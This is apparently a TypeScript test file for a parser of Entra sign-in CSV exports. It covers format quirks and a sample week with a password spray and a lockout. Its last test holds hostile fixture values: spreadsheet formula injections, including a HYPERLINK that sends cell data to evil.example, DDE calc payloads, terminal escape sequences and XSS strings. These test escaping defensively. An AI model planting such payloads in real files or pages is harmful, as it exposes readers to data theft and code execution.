// Entra admin center CSV downloads (formats.md §1): the bundled sample checked row by row against
// csv-parse, and the header and file quirks (2024 all-quoted 55 columns with CRLF, multi-line cells,
// Excel re-saves with semicolons or tabs, the file kinds, the AuthDetails file read as authentication steps).

import { copyFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { SignIn } from '../src/model.js';
import { fixture, ingestAll, tempDir } from './ingest.helpers.js';

const SAMPLE = 'sample/InteractiveSignIns_sample.csv';

/** An independent reading of one portal row: csv-parse for the CSV, plain rules for the values. */
function expectedFromPortalRow(row: Record<string, string>, file: string, line: number): SignIn {
  const [city = '', state = '', country = ''] = row['Location']!.split(', ');
  const code = Number(row['Sign-in error code']);
  const bool = (text: string) => (text === 'TRUE' ? true : text === 'FALSE' ? false : null);
  return {
    time: new Date(row['Date (UTC)']!),
    requestId: row['Request ID']!,
    correlationId: row['Correlation ID']!,
    userPrincipalName: row['Username']!,
    userDisplayName: row['User']!,
    userId: row['User ID']!,
    servicePrincipalName: '',
    servicePrincipalId: '',
    appName: row['Application']!,
    appId: row['Application ID ']!,
    resource: row['Resource']!,
    ipAddress: row['IP address']!,
    city,
    state,
    country,
    clientApp: row['Client app']!,
    userAgent: row['User agent']!,
    sourceStatus: row['Status']!,
    errorCode: code,
    failureReason: code === 0 ? '' : row['Failure reason']!,
    additionalDetails: row['Multifactor authentication result']!,
    conditionalAccessStatus: ({ Success: 'success', Failure: 'failure', 'Not Applied': 'notApplied' } as Record<string, string>)[row['Conditional Access']!]!,
    signInType: 'interactive',
    deviceOs: row['Operating System']!,
    deviceBrowser: row['Browser']!,
    deviceCompliant: bool(row['Compliant']!),
    deviceManaged: bool(row['Managed']!),
    authenticationRequirement: (
      { 'Single-factor authentication': 'singleFactorAuthentication', 'Multifactor authentication': 'multiFactorAuthentication' } as Record<string, string>
    )[row['Authentication requirement']!]!,
    homeTenantId: row['Home tenant ID']!,
    homeTenantName: row['Home tenant name']!,
    resourceTenantId: row['Resource tenant ID']!,
    file,
    line,
  };
}

describe('the bundled sample (current 57-column portal download)', async () => {
  const path = fixture(SAMPLE);
  const { result, signIns } = await ingestAll([path]);
  const text = readFileSync(path, 'utf8');

  it('has the exact portal header: BOM, duplicate and oddly spaced names, LF only', () => {
    expect(text.startsWith('\uFEFFDate (UTC),Request ID,User agent,')).toBe(true);
    expect(text.includes('\r')).toBe(false);
    const header = text.slice(1, text.indexOf('\n')).split(',');
    expect(header).toHaveLength(57);
    expect(header.filter((name) => name === 'Incoming token type')).toHaveLength(2);
    expect(header).toContain('Application ID ');
    expect(header).toContain('Resource ID ');
    expect(header).toContain('Autonomous system  number');
  });

  it('reads every row as a sign-in and accounts for all of them', () => {
    expect(result.inputs).toMatchObject([{ path, format: 'portal-csv', rowsRead: 315, signIns: 315, rejected: 0, duplicates: 0, filteredOut: 0 }]);
    expect(result.rowsRead).toBe(result.signIns + result.rejected + result.duplicates);
    expect(result.warnings).toEqual([]);
  });

  it('normalizes every row exactly as an independent reading with csv-parse does', () => {
    const rows = parse(text.slice(1), {
      columns: (names: string[]) => names.map((name, index) => (name === 'Incoming token type' && index > 20 ? 'Incoming token type (2)' : name)),
    }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(315);
    // No cell of the sample spans lines, so row i sits on line i + 2.
    expect(signIns).toEqual(rows.map((row, index) => expectedFromPortalRow(row, path, index + 2)));
  });

  it('tells the week’s story: a spray, a lockout, a stale secret, and one code no catalog knows', () => {
    const lockout = signIns.filter((s) => s.errorCode === 50053 && s.ipAddress === '198.51.100.66');
    expect(lockout).toHaveLength(3);
    for (const s of lockout) {
      expect(s).toMatchObject({
        userPrincipalName: 'megan.bowen@contoso.example',
        city: 'Sao Paulo',
        state: 'Sao Paulo',
        country: 'BR',
        clientApp: 'Authenticated SMTP',
        deviceOs: '',
        deviceCompliant: false,
      });
    }
    const sprayed = new Set(signIns.filter((s) => s.errorCode === 50126 && s.ipAddress === '198.51.100.66').map((s) => s.userPrincipalName));
    expect(sprayed.size).toBe(13);
    expect(signIns.filter((s) => s.errorCode === 7000215).every((s) => s.appName === 'Contoso Timesheets')).toBe(true);
    const unknown = signIns.filter((s) => s.errorCode === 9999999);
    expect(unknown).toHaveLength(1);
    expect(unknown[0]).toMatchObject({
      line: 2,
      time: new Date('2026-11-15T13:05:07Z'),
      userPrincipalName: 'emily.braun@contoso.example',
      sourceStatus: 'Failure',
      city: 'Toronto',
      state: 'Ontario',
      country: 'CA',
    });
    const codes = new Set(signIns.map((s) => s.errorCode));
    for (const code of [0, 50126, 50140, 50074, 50076, 500121, 50053, 53003, 50055, 70044, 65001, 700016, 50057, 530032, 7000215, 9999999])
      expect(codes).toContain(code);
    const clientApps = new Set(signIns.map((s) => s.clientApp));
    for (const clientApp of ['Browser', 'Mobile Apps and Desktop clients', 'IMAP4', 'Authenticated SMTP', 'Exchange ActiveSync'])
      expect(clientApps).toContain(clientApp);
    expect(new Set(signIns.map((s) => s.userPrincipalName)).size).toBe(27);
    const times = signIns.map((s) => s.time.toISOString()).sort();
    expect(times[0]!.slice(0, 10)).toBe('2026-11-09');
    expect(times.at(-1)!.slice(0, 10)).toBe('2026-11-15');
  });

  it('reads one row of the spray with every field', () => {
    const row = signIns.find((s) => s.line === 126)!;
    expect(row).toEqual({
      time: new Date('2026-11-12T02:46:41Z'),
      requestId: '4d9019fe-58c9-4b1e-ac0a-2163f0d5e629',
      correlationId: '3e47e3ad-f4ae-494d-ad86-f6e77a06eda9',
      userPrincipalName: 'megan.bowen@contoso.example',
      userDisplayName: 'Megan Bowen',
      userId: '5dfabd55-b29f-417c-8709-6795eca77f3d',
      servicePrincipalName: '',
      servicePrincipalId: '',
      appName: 'Office 365 Exchange Online',
      appId: '00000002-0000-0ff1-ce00-000000000000',
      resource: 'Office 365 Exchange Online',
      ipAddress: '198.51.100.66',
      city: 'Sao Paulo',
      state: 'Sao Paulo',
      country: 'BR',
      clientApp: 'Authenticated SMTP',
      userAgent: '',
      sourceStatus: 'Failure',
      errorCode: 50126,
      failureReason: 'Error validating credentials due to invalid username or password.',
      additionalDetails: "The user didn't enter the right credentials.\u00a0Some of these are expected every day, when people mistype their password.",
      conditionalAccessStatus: 'notApplied',
      signInType: 'interactive',
      deviceOs: '',
      deviceBrowser: '',
      deviceCompliant: false,
      deviceManaged: false,
      authenticationRequirement: 'singleFactorAuthentication',
      homeTenantId: '5e2a7c1d-8b4f-4e36-a9d0-3c7f1b6e2d48',
      homeTenantName: 'Contoso',
      resourceTenantId: '5e2a7c1d-8b4f-4e36-a9d0-3c7f1b6e2d48',
      file: path,
      line: 126,
    } satisfies SignIn);
  });
});

describe('portal CSV quirks', () => {
  it('2024: 55 columns, every field quoted, CRLF', async () => {
    const path = fixture('formats/InteractiveSignIns_2024-10_55col.csv');
    const text = readFileSync(path, 'utf8');
    expect(text.startsWith('\uFEFF"Date (UTC)","Request ID"')).toBe(true);
    expect(text.split('\r\n')[0]!.split('","')).toHaveLength(55);
    const { result, signIns } = await ingestAll([path]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', rowsRead: 3, signIns: 3, rejected: 0 });
    expect(signIns.map((s) => [s.line, s.time.toISOString(), s.errorCode, s.sourceStatus, s.userPrincipalName])).toEqual([
      [2, '2024-10-14T07:58:12.000Z', 0, 'Success', 'adele.vance@contoso.example'],
      [3, '2024-10-14T08:03:44.000Z', 50126, 'Failure', 'johanna.lorenz@contoso.example'],
      [4, '2024-10-14T09:17:05.000Z', 50076, 'Interrupted', 'lee.gu@contoso.example'],
    ]);
    // No CR is left on the last column, and the columns after the two missing ones are not shifted.
    expect(signIns[1]).toMatchObject({
      city: 'Berlin',
      state: 'Berlin',
      country: 'DE',
      appName: 'SharePoint Online',
      resource: 'Office 365 SharePoint Online',
      conditionalAccessStatus: 'notApplied',
      authenticationRequirement: 'singleFactorAuthentication',
    });
    expect(signIns[2]).toMatchObject({ conditionalAccessStatus: 'success', failureReason: expect.stringContaining("to access '{resource}'.") });
  });

  it('a failure reason over three lines, doubled quotes, and a comma in a display name', async () => {
    const path = fixture('formats/InteractiveSignIns_multiline-reason.csv');
    const { result, signIns } = await ingestAll([path]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', rowsRead: 3, signIns: 3 });
    expect(signIns[0]).toMatchObject({
      line: 2,
      errorCode: 9999999,
      failureReason: 'The SAML response could not be validated.\nSignature check: "failed", certificate thumbprint 3F:9A:…\nContact the application owner.',
      additionalDetails: 'Line one, with a comma\nline two',
      appName: 'Contoso Expenses (SAML)',
    });
    // The first row spans lines 2–5, so the next starts on line 6.
    expect(signIns[1]).toMatchObject({ line: 6, userDisplayName: 'Cline, Christie', userPrincipalName: 'christie.cline@contoso.example', errorCode: 0 });
    expect(signIns[2]).toMatchObject({ line: 7, errorCode: 50140, sourceStatus: 'Interrupted' });
  });

  it('a German Excel re-save: semicolons, CRLF, dates rewritten day-first without seconds', async () => {
    const path = fixture('formats/InteractiveSignIns_excel-de-semicolon.csv');
    const { result, signIns } = await ingestAll([path]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', rowsRead: 3, signIns: 3, rejected: 0 });
    expect(result.warnings).toEqual([]);
    expect(signIns.map((s) => [s.line, s.time.toISOString(), s.errorCode, s.userPrincipalName, s.city, s.country])).toEqual([
      [2, '2026-11-15T09:12:00.000Z', 0, 'johanna.lorenz@contoso.example', 'Berlin', 'DE'],
      [3, '2026-11-13T07:45:00.000Z', 50126, 'henrietta.mueller@contoso.example', 'Berlin', 'DE'],
      // 02.11 alone could be either order; the file's 15.11 settled it as day-first.
      [4, '2026-11-02T18:30:00.000Z', 53003, 'diego.siciliani@contoso.example', 'Munich', 'DE'],
    ]);
    expect(signIns[0]!.userAgent).toContain('(Windows NT 10.0; Win64; x64)');
    expect(signIns[2]!.conditionalAccessStatus).toBe('failure');
  });

  it('a tab-separated re-save', async () => {
    const { result, signIns } = await ingestAll([fixture('formats/InteractiveSignIns_tab.tsv')]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', rowsRead: 2, signIns: 2 });
    expect(
      signIns.map((s) => [
        s.time.toISOString(),
        s.errorCode,
        s.userPrincipalName,
        s.ipAddress,
        s.city,
        s.state,
        s.country,
        s.userAgent.startsWith('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)'),
      ]),
    ).toEqual([
      ['2026-11-11T06:06:06.000Z', 0, 'nestor.wilke@contoso.example', '203.0.113.43', 'Amsterdam', 'North Holland', 'NL', true],
      ['2026-11-11T06:10:45.000Z', 50074, 'enrico.cattaneo@contoso.example', '203.0.113.67', 'Amsterdam', 'North Holland', 'NL', true],
    ]);
  });

  it('a non-interactive download: the same header, and the file name tells the type', async () => {
    const { result, signIns } = await ingestAll([fixture('formats/NonInteractiveSignIns_2026-11-13_2026-11-13.csv')]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', signIns: 2 });
    expect(signIns.map((s) => [s.signInType, s.errorCode, s.appName])).toEqual([
      ['noninteractive', 0, 'Microsoft Teams'],
      ['noninteractive', 70044, 'SharePoint Online'],
    ]);
  });

  it.each(['non_interactive_signins.csv', 'Non-Interactive sign-ins.csv', 'noninteractive.csv'])('a non-interactive download saved as %s', async (name) => {
    const path = join(tempDir(), name);
    copyFileSync(fixture('formats/NonInteractiveSignIns_2026-11-13_2026-11-13.csv'), path);
    const { signIns } = await ingestAll([path]);
    expect(signIns.map((s) => s.signInType)).toEqual(['noninteractive', 'noninteractive']);
  });

  it('service principal sign-ins (ApplicationSignIns, 22 columns, no user columns)', async () => {
    const path = fixture('formats/ApplicationSignIns_2026-11-14_2026-11-14.csv');
    const { result, signIns } = await ingestAll([path]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-serviceprincipal-csv', rowsRead: 2, signIns: 2 });
    expect(signIns[1]).toEqual({
      time: new Date('2026-11-14T02:00:00Z'),
      requestId: signIns[1]!.requestId,
      correlationId: signIns[1]!.correlationId,
      userPrincipalName: '',
      userDisplayName: '',
      userId: '',
      servicePrincipalName: 'Contoso ETL Pipeline',
      servicePrincipalId: '1b3d5f7a-9c0e-4b2d-8f4a-6c8e0a2b4d6f',
      appName: 'Contoso ETL Pipeline',
      appId: '8d2f4b6a-0c1e-4a3b-9d5f-7e9a1c3e5b70',
      resource: 'Microsoft Graph',
      ipAddress: '203.0.113.150',
      city: 'Amsterdam',
      state: 'North Holland',
      country: 'NL',
      clientApp: '',
      userAgent: '',
      sourceStatus: 'Failure',
      errorCode: 7000215,
      failureReason:
        'Invalid client secret provided. Ensure the secret being sent in the request is the client secret value, not the client secret ID, for a secret added to app.',
      additionalDetails: '',
      conditionalAccessStatus: 'notApplied',
      signInType: 'serviceprincipal',
      deviceOs: '',
      deviceBrowser: '',
      deviceCompliant: null,
      deviceManaged: null,
      authenticationRequirement: '',
      homeTenantId: '5e2a7c1d-8b4f-4e36-a9d0-3c7f1b6e2d48',
      homeTenantName: 'Contoso',
      resourceTenantId: '5e2a7c1d-8b4f-4e36-a9d0-3c7f1b6e2d48',
      file: path,
      line: 3,
    } satisfies SignIn);
    expect(signIns[1]!.requestId).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  it('managed identity sign-ins (MSISignIns)', async () => {
    const { result, signIns } = await ingestAll([fixture('formats/MSISignIns_2026-11-14_2026-11-14.csv')]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-managedidentity-csv', signIns: 2 });
    expect(signIns.map((s) => [s.signInType, s.servicePrincipalName, s.servicePrincipalId, s.appName, s.errorCode])).toEqual([
      ['managedidentity', 'func-invoice-render', '5c7e9a1b-3d0f-4e2a-8c6e-0b2d4f6a8c1e', 'Azure Key Vault', 0],
      ['managedidentity', 'id-report-writer', '7e9a1c3d-5f0b-4d2e-9a4c-2e4a6c8e0a3b', 'Azure Key Vault', 700016],
    ]);
  });

  it('an authentication-details file is recognised and read as authentication steps (ingest.auth-details.test.ts)', async () => {
    const path = fixture('formats/InteractiveSignIns_AuthDetails_2026-11-09_2026-11-15.csv');
    const { result, stderr } = await ingestAll([path, fixture('formats/ApplicationSignIns_2026-11-14_2026-11-14.csv')], { quiet: false });
    expect(result.inputs[0]).toMatchObject({ path, format: 'portal-authdetails-csv', rowsRead: 5, signIns: 0, rejected: 0, filteredOut: 5, mfaSteps: 2 });
    expect(result.warnings).toEqual([]);
    expect(stderr).toEqual([]);
  });

  it('hostile display names, app names and reasons arrive unchanged (escaping is the reports’ job)', async () => {
    const { result, signIns } = await ingestAll([fixture('formats/hostile-values.csv')]);
    expect(result.inputs[0]).toMatchObject({ format: 'portal-csv', rowsRead: 5, signIns: 5, rejected: 0 });
    expect(signIns.map((s) => [s.line, s.userDisplayName, s.appName])).toEqual([
      [2, 'Adele \u001b[31mVance\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007', '=HYPERLINK("https://evil.example/?q="&A1,"Open report")'],
      [3, "+cmd|' /C calc'!A0", '-2+3'],
      [4, "@SUM(1+1)*cmd|'/C calc'!A0", 'Docs | **bold** | `code` |'],
      [5, '<script>alert("x")</script>', '<img src=x onerror=alert(1)>'],
      [8, 'Lidia\nHolloway\tTab', '\t=1+1'],
    ]);
    expect(signIns[2]!.failureReason).toBe('Blocked | by **policy** <b>now</b>');
    expect(signIns[3]!.failureReason).toBe('Line one\nLine two\r\nLine three');
    expect(signIns[4]!.city).toBe('=cmd|"/c calc"!A1');
  });
});
